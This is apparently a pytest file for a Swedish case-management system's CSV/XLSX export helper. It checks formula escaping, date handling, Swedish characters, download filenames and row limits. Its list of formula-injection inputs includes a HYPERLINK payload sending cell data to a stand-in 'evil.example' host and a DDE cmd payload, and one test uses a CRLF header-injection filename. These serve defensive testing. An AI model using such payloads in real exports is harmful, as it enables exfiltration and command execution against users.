"""The export helper: what a registrar opens in Excel is the list as written — Swedish
letters intact, dates as dates — and nothing in it runs as a formula."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from caseflow.common import export

#: What an attacker may type into a title or a sender (OWASP CSV injection, CWE-1236):
#: each starts a formula or a control in Excel or LibreOffice.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign, U+FF1D
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "  =1+1",  # an importer that trims the spaces sees a formula
]
HARMLESS = ["Ärende om Östersund", "RS/720/2021", "a=b", "http://example.se/", "1-2", ""]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not cp1252
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.fixture
def ctx(app):
    with app.test_request_context():
        yield app


def test_every_dangerous_start_is_shown_as_text_in_csv_and_xlsx(ctx):
    table = export.Table(["Ärendemening"], [[value] for value in DANGEROUS + HARMLESS])
    rows = _csv_rows(export.to_csv(table))
    assert [r[0] for r in rows[1 : len(DANGEROUS) + 1]] == ["'" + v for v in DANGEROUS]
    assert [r[0] for r in rows[len(DANGEROUS) + 1 :]] == HARMLESS

    sheet = _sheet(export.to_xlsx(table))
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(DANGEROUS) + 1)]
    for value, cell in zip(DANGEROUS, cells, strict=True):
        # The text itself, as a text cell Excel keeps as text even when it is edited.
        # (A carriage return is stored as Excel's escape _x000D_, which openpyxl leaves.)
        text = cell.value.replace("_x000D_", "\r")
        assert cell.data_type == "s" and text == value and cell.quotePrefix, repr(value)
    harmless = [sheet.cell(len(DANGEROUS) + 2 + i, 1) for i in range(len(HARMLESS))]
    for value, cell in zip(HARMLESS, harmless, strict=True):
        assert cell.value == (value or None) and not cell.quotePrefix, repr(value)
        assert cell.hyperlink is None  # no link made of a URL


def test_numbers_in_text_stay_text_and_real_numbers_stay_numbers(ctx):
    table = export.Table(["Nr", "Text"], [[-5, "0042"], [720, "1e5"]])
    sheet = _sheet(export.to_xlsx(table))
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-5, "n"), ("0042", "s")]
    assert [(c.value, c.data_type) for c in sheet[3]] == [(720, "n"), ("1e5", "s")]
    assert _csv_rows(export.to_csv(table))[1] == ["-5", "0042"]  # a number is not a formula


def test_dates_are_dates_and_times_are_swedish_time(ctx):
    # 08:30 UTC on 1 November is 09:30 in Stockholm (winter time); 1 July is summer time.
    table = export.Table(
        ["Inkom", "Registrerad", "Bevakas"],
        [
            [date(2021, 11, 1), datetime(2021, 11, 1, 8, 30, tzinfo=UTC), None],
            [date(2021, 7, 1), datetime(2021, 7, 1, 8, 30, tzinfo=UTC), date(2021, 12, 24)],
        ],
    )
    rows = _csv_rows(export.to_csv(table))
    assert rows[1:] == [
        ["2021-11-01", "2021-11-01 09:30", ""],
        ["2021-07-01", "2021-07-01 10:30", "2021-12-24"],
    ]
    sheet = _sheet(export.to_xlsx(table))
    first, second = sheet[2], sheet[3]
    assert first[0].is_date and first[0].value == datetime(2021, 11, 1)
    assert first[0].number_format == "yyyy-mm-dd"
    assert first[1].is_date and first[1].value == datetime(2021, 11, 1, 9, 30)
    assert first[2].value is None
    assert second[1].value == datetime(2021, 7, 1, 10, 30)
    assert second[2].value == datetime(2021, 12, 24)


def test_the_csv_is_for_swedish_excel(ctx):
    """Semicolons, every field quoted with quotes doubled, CRLF, å ä ö in UTF-8."""
    table = export.Table(
        ["Avsändare", "Ärendemening"],
        [['Länsstyrelsen i Jämtlands län; "Enheten"', "Åtgärd\nrad två"]],
    )
    data = export.to_csv(table)
    assert data.decode("utf-8-sig").split("\r\n", 1)[0] == '"Avsändare";"Ärendemening"'
    assert b'"L\xc3\xa4nsstyrelsen i J\xc3\xa4mtlands l\xc3\xa4n; ""Enheten"""' in data
    assert _csv_rows(data)[1] == ['Länsstyrelsen i Jämtlands län; "Enheten"', "Åtgärd\nrad två"]


def test_the_xlsx_has_its_headings_and_letters(ctx):
    table = export.Table(
        ["Diarienummer", "Ärendemening"], [["RS/720/2021", "Samverket i Östersund"]],
        sheet="Ärenden: urval [1]",
    )  # fmt: skip
    book = load_workbook(io.BytesIO(export.to_xlsx(table)))
    sheet = book.active
    assert sheet.title == "Ärenden  urval  1"  # Excel forbids : [ ] in a sheet's name
    assert [c.value for c in sheet[1]] == ["Diarienummer", "Ärendemening"]
    assert sheet[1][0].font.b
    assert [c.value for c in sheet[2]] == ["RS/720/2021", "Samverket i Östersund"]
    assert sheet.freeze_panes == "A2"


def test_a_control_character_does_not_break_the_workbook(ctx):
    table = export.Table(["Titel"], [["Inklistrad\x07text\x1b"]])
    assert _sheet(export.to_xlsx(table))["A2"].value == "Inklistrad\ufffdtext\ufffd"


def test_the_download_name_survives_every_client():
    header = export.content_disposition("Ärenden 2026-12-03.xlsx")
    assert header == (
        'attachment; filename="Arenden_2026-12-03.xlsx"; '
        "filename*=UTF-8''%C3%84renden%202026-12-03.xlsx"
    )
    sneaky = export.content_disposition('../a"b\r\nSet-Cookie: x.csv')
    assert "\r" not in sneaky and "\n" not in sneaky and "/" not in sneaky.split(";")[1]
    assert sneaky.split(";")[1].count('"') == 2


def test_the_response_names_its_type_and_is_not_cached(ctx):
    table = export.Table(["Nr"], [[1]])
    csv_response = export.response(table, "csv", "Löpande post 2026-12-03")
    assert csv_response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response.headers["Cache-Control"] == "no-store"
    assert (
        "filename*=UTF-8''L%C3%B6pande%20post%202026-12-03.csv"
        in (csv_response.headers["Content-Disposition"])
    )
    xlsx_response = export.response(table, "xlsx", "Export")
    assert xlsx_response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert xlsx_response.get_data()[:2] == b"PK"
    with pytest.raises(ValueError):
        export.response(table, "pdf", "Export")


def test_more_rows_than_the_cap_are_refused_with_the_count(ctx):
    ctx.config["EXPORT_MAX_ROWS"] = 1000
    export.check_row_count(1000)
    with pytest.raises(export.ExportTooLarge) as refused:
        export.check_row_count(1001)
    assert str(refused.value) == (
        "1\u00a0001 rader matchar, fler än de 1\u00a0000 en export får innehålla: "
        "begränsa urvalet och exportera igen."
    )


def test_the_audit_values_name_the_export_not_its_content():
    # The words searched for may be a secret the admin reading the trail may not see.
    assert export.event_values("cases", "xlsx", 12, {"q": "Karin Lindqvist", "year": "2021"}) == {
        "page": "cases",
        "filters": {"q_chars": 15, "year": "2021"},
        "format": "xlsx",
        "rows": 12,
    }


def test_search_hits_become_a_table_in_the_order_of_the_headings(ctx):
    hits = [
        {"number": "RS/720/2021-3", "kind": "document", "title": "Ansökan", "snippet": "…"},
        {"number": "RS/720/2021", "kind": "case", "title": "=Projekt", "date": date(2021, 5, 4)},
    ]
    table = export.search_results_table(
        hits, {"number": "Nummer", "title": "Titel", "date": "Datum"}
    )
    assert table.headings == ["Nummer", "Titel", "Datum"]
    assert table.rows == [
        ["RS/720/2021-3", "Ansökan", None],
        ["RS/720/2021", "=Projekt", date(2021, 5, 4)],
    ]
    assert _csv_rows(export.to_csv(table))[2] == ["RS/720/2021", "'=Projekt", "2021-05-04"]


def test_the_helper_is_a_leaf():
    """Any domain may export: the helper imports no domain of caseflow."""
    source = Path(export.__file__).read_text(encoding="utf-8")
    imported = {
        node.module
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.ImportFrom) and node.module
    }
    ours = {name for name in imported if name.startswith("caseflow")}
    assert ours <= {"caseflow.common.errors", "caseflow.common.timeutil"}
